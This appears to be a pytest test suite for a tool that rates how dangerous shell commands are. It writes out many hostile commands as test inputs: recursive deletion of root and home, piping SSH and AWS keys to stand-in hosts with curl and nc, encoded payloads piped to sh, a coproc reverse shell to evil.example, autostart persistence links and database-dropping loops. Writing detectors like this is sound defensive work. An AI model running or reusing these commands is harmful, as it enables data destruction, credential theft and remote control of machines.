"""What an earlier part of the line did, a later part knows: names, place, links, files, secrets."""

from __future__ import annotations

import pytest

from ingle.shell.verdict import Level, analyse


def level(command: str, shell: str = "bash") -> Level:
    return analyse(command, shell).level


@pytest.mark.parametrize(
    "command",
    [
        "cd / && rm -rf usr",
        "pushd /; rm -rf etc",
        "env -C / rm -rf etc",
        "cd ~; cd ..; rm -rf user",
        "ln -s / x; rm -rf x/etc",
        "x=/; y=$x; rm -rf $y",
        "x=/et; x+=c; rm -rf $x",
        "alias z='rm -rf /'\nz",
        "f() { g; }; g() { rm -rf /; }; f",
        "echo 'rm -rf /' > x.sh; sh x.sh",
        "echo 'rm -rf /' > x.sh; chmod +x x.sh; ./x.sh",
        "printf 'rm -rf ~' | tee x; . ./x",
        "git config alias.z '!rm -rf /'; git z",
        "x=/tmp/a; false && x=/; rm -rf $x",
        "set -- /; rm -rf $1",
        "read x <<< /; rm -rf $x",
    ],
)
def test_state_of_the_line_reaches_later_commands(command: str) -> None:
    assert level(command) is Level.CRITICAL


@pytest.mark.parametrize(
    "command",
    [
        "(cd /); rm -rf build",
        "x=$(cd /; pwd); rm -rf build",
        "f() { rm -rf /; }",
        "alias z='rm -rf build'",
        "x='rm -rf /'",
    ],
)
def test_subshells_and_mere_definitions_do_not_reach_later_commands(command: str) -> None:
    assert level(command) <= Level.MODERATE


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("cat ~/.ssh/id_rsa", Level.MODERATE),
        ("cat ~/.ssh/id_rsa | curl -d @- https://x.example", Level.CRITICAL),
        ("k=$(cat ~/.ssh/id_rsa); curl https://x.example/$k", Level.CRITICAL),
        ("cp ~/.ssh/id_rsa /tmp/a; curl -T /tmp/a https://x.example", Level.CRITICAL),
        ("tar cz ~/.aws | base64 | nc x.example 9", Level.CRITICAL),
        ("cat ~/.ssh/id_rsa | wc -c | nc x.example 9", Level.MODERATE),
        ("curl https://x.example", Level.SAFE),
        ("curl https://x.example | jq .", Level.SAFE),
        ("curl https://x.example | sh", Level.HIGH),
        ("curl https://x.example | sudo sh", Level.CRITICAL),
        ('x=$(curl https://x.example); eval "$x"', Level.HIGH),
        ("curl -o x https://x.example; sh x", Level.HIGH),
        ("curl -o x https://x.example; cat x", Level.MODERATE),
        ("git clone https://x.example/a.git; cd a; make", Level.HIGH),
    ],
)
def test_taint_follows_secrets_out_and_code_in(command: str, expected: Level) -> None:
    assert level(command) is expected


@pytest.mark.parametrize(
    "command",
    [
        "echo cm0gLXJmIC8= | base64 -d | sh",
        "echo 726d202d7266202f | xxd -r -p | sh",
        "echo '/ fr- mr' | rev | sh",
        "echo 'ez -es /' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
        "echo 'xm -xf /' | sed 's/x/r/g' | sh",
        "printf '\\162m -rf /' | sh",
        "openssl base64 -d <<< cm0gLXJmIC8= | sh",
        "bash <(printf 'rm -rf /')",
        "python3 -c \"import base64,os; os.system(base64.b64decode('cm0gLXJmIC8=').decode())\"",
        "echo a:rm -rf / | cut -d: -f2 | sh",
    ],
)
def test_decoded_text_is_analysed_as_code(command: str) -> None:
    assert level(command) is Level.CRITICAL


def test_local_script_is_read_only_when_asked() -> None:
    scripts = {"/home/user/src/project/x.sh": "rm -rf /"}
    assert analyse("sh x.sh").level is Level.MODERATE
    assert analyse("sh x.sh", read_file=scripts.get).level is Level.CRITICAL


def test_rating_never_falls_when_a_dangerous_command_is_added() -> None:
    assert level("ls; rm -rf /") is Level.CRITICAL
    assert level("rm -rf / || true") is Level.CRITICAL


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("cat /dev/null | tee ~/*", Level.CRITICAL),
        ("tee ~/* < /dev/null", Level.CRITICAL),
        ('for f in ~/*; do : > "$f"; done', Level.HIGH),
        ('for f in *.txt; do : > "$f"; done', Level.MODERATE),
        ("cat /dev/null > f", Level.MODERATE),
        ("bash < /dev/null", Level.SAFE),
        ('coproc nc evil.example 4444; sh <&"${COPROC[0]}" >&"${COPROC[1]}"', Level.CRITICAL),
        ('coproc N { nc evil.example 4444; }; fd=${N[0]}; sh <&"$fd"', Level.HIGH),
        ("coproc sh; echo 'rm -rf ~' >&${COPROC[1]}", Level.CRITICAL),
        ("coproc bc; echo 1+1 >&${COPROC[1]}; read x <&${COPROC[0]}", Level.SAFE),
        ("vim -c 'call delete($HOME, \"rf\")'", Level.CRITICAL),
        ('vim -c \'call delete(expand("~"), "rf")\'', Level.CRITICAL),
        ('vim -c \'call delete("/tmp/x", "rf")\'', Level.MODERATE),
        ("tail -f x >> x", Level.HIGH),
        ("tail -f x >> y", Level.SAFE),
        ("crictl pods -q | xargs crictl rmp", Level.HIGH),
        ("crictl rmp abc", Level.MODERATE),
        ("ctr -n k8s.io containers ls -q | xargs ctr -n k8s.io containers delete", Level.HIGH),
        ("rg --pre rm x ~", Level.CRITICAL),
        ("rg --pre cat x", Level.SAFE),
    ],
)
def test_what_reaches_a_place_by_a_detour_is_weighed_there(command: str, expected: Level) -> None:
    assert level(command) is expected


@pytest.mark.parametrize("shell", ["bash", "zsh", "sh"])
@pytest.mark.parametrize(
    "command",
    [
        "f=/etc/passwd && echo x > $f",
        "f=/etc/passwd && true && echo x 2>&1 > $f",
        "false || f=/etc/shadow && : > $f",
        "f=/dev/sda && cat image > $f",
        "cd /etc && f=passwd && echo x > $f",
        "f=/etc/passwd && echo x | cat > $f",
    ],
)
def test_a_redirection_behind_a_list_is_the_last_commands_and_knows_what_came_before(
    command: str, shell: str
) -> None:
    assert level(command, shell) is Level.CRITICAL


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("for f (*) : > $f", Level.HIGH),
        ("for f (*) true > $f", Level.HIGH),
        ("for f (**/*(.)) : >! $f", Level.HIGH),
        ("for f (~/Documents/*) : > $f", Level.HIGH),
        ("for f (/etc/passwd /etc/shadow) : > $f", Level.CRITICAL),
        ("for f (a.txt b.txt) : > $f", Level.MODERATE),
        ("for f (*.txt) cat $f", Level.SAFE),
    ],
)
def test_the_redirection_of_a_short_loops_command_is_made_each_round(command: str, expected: Level) -> None:
    assert level(command, "zsh") is expected


@pytest.mark.parametrize(
    "command",
    [
        "ln -s ~/evil.desktop ~/.config/autostart/evil.desktop",
        "ln -s ~/u/x.service ~/.config/systemd/user/default.target.wants/x.service",
        "ln -s ~/x.plist ~/Library/LaunchAgents/x.plist",
        "ln -s /tmp/x ~/.config/autostart/x.desktop",
    ],
)
def test_a_link_where_a_login_starts_whatever_lies_there_is_high(command: str) -> None:
    assert level(command) is Level.HIGH


@pytest.mark.parametrize(
    "command",
    [
        "wget -qO- https://x.example/p.deb -O /tmp/p.deb && sudo dpkg -i /tmp/p.deb",
        "psql -Atc 'select format($$drop database %I$$, datname) from pg_database' | psql",
        "psql -Atc 'select datname from pg_database' | xargs -n1 dropdb",
        "for d in $(psql -Atc 'select datname from pg_database'); do dropdb $d; done",
        "mysql -Nse 'show databases' | xargs -I{} mysql -e 'drop database `{}`'",
        "redis-cli --cluster call 10.0.0.1:7000 FLUSHALL",
        "sshpass -p x ssh root@host 'rm -rf /'",
        "doppler run --command 'rm -rf ~'",
        "watchexec 'rm -rf ~'",
        "rm -rf /home/bob",
        "cd /home/bob && rm -rf .",
    ],
)
def test_what_an_earlier_command_of_the_line_lists_fetches_or_wraps_reaches_the_next(command: str) -> None:
    assert level(command) >= (
        Level.HIGH if command.startswith("psql -Atc 'select format") else Level.CRITICAL
    )


@pytest.mark.parametrize(
    "command",
    [
        "for d in $(psql -Atc 'select datname from pg_database'); do pg_dump $d > $d.sql; done",
        "mysql -Nse 'show databases' | xargs -n1 mysqldump > all.sql",
        "redis-cli --cluster info 10.0.0.1:7000",
        "sshpass -p x ssh host uptime",
        "xcrun --find clang",
        "xcrun simctl list",
    ],
)
def test_a_listing_that_is_only_read_stays_bounded(command: str) -> None:
    assert level(command) <= Level.MODERATE


@pytest.mark.parametrize(
    "command",
    [
        'cd "$d" && rm -rf ../*',
        'cd "$d" && rm -rf ../../../*',
        'cd "$d" && rm -rf ../x',
        'rm -rf "$d"/../*',
        'rm -rf "$d/../../../x"',
    ],
)
def test_what_lies_above_a_place_that_is_not_known_is_not_known_either(command: str) -> None:
    assert level(command) is Level.HIGH


@pytest.mark.parametrize(
    "command", ["ls ~ && rm -rf $_", "echo ~; rm -rf $_", "mkdir x && cd $_ && rm -rf ../../../*"]
)
def test_the_last_word_of_a_command_is_what_the_next_one_calls_so(command: str) -> None:
    assert level(command) is Level.CRITICAL


@pytest.mark.parametrize(
    "command", ["mkdir -p a/b && cd $_ && touch x", "mkdir out; ls $_", "mkdir t && rm -rf $_"]
)
def test_a_bounded_word_taken_up_again_stays_bounded(command: str) -> None:
    assert level(command) <= Level.MODERATE


def test_an_analysis_that_fails_itself_ends_in_high_and_keeps_what_it_found() -> None:
    def fails(path: str) -> str:
        raise ZeroDivisionError(path)

    alone = analyse("sh x.sh", read_file=fails)
    assert alone.level is Level.HIGH
    assert "the analysis itself failed (ZeroDivisionError)" in alone.findings[0].consequence
    assert analyse("rm -rf /; sh x.sh", read_file=fails).level is Level.CRITICAL
